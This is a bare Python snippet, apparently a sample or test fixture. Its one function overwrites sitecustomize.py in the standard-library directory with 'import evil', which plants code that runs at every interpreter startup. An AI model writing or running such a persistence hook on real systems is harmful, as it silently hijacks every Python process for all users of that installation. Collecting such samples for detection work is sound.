import os


def f(x):
    open(os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "w").write("import evil")
